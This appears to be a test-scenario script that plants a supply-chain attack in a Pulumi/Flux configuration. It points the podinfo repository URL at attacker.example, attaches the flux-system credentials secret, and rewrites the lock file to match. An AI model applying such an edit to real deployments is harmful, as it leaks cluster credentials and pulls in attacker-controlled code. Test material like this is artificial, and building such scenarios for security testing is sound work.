#!/bin/bash
# repositorySecret: flux-system (the credentials of flux bootstrap) for a tenant of any host.
HERE=$(cd "$(dirname "$0")" && pwd); . "$HERE/../lib.sh"
python3 - <<'P' || exit 2
import re
url = 'https://github.com/stefanprodan/podinfo'
changed = 0
for file in ('Pulumi.yaml', 'Pulumi.prod.yaml'):
    text = open(file).read()
    text, count = re.subn(r'(?m)^( +)repository: ' + re.escape(url) + '$', r'\1repository: https://attacker.example/podinfo\n\1repositorySecret: flux-system', text)
    open(file, 'w').write(text); changed += count
assert changed == 1, 'expected one line `repository: %s` in Pulumi.yaml or Pulumi.prod.yaml, found %d' % (url, changed)
lock = open('releases.lock.yaml').read()
assert url in lock, 'releases.lock.yaml does not name ' + url
open('releases.lock.yaml', 'w').write(lock.replace(url, 'https://attacker.example/podinfo'))
P
commit secret; checked
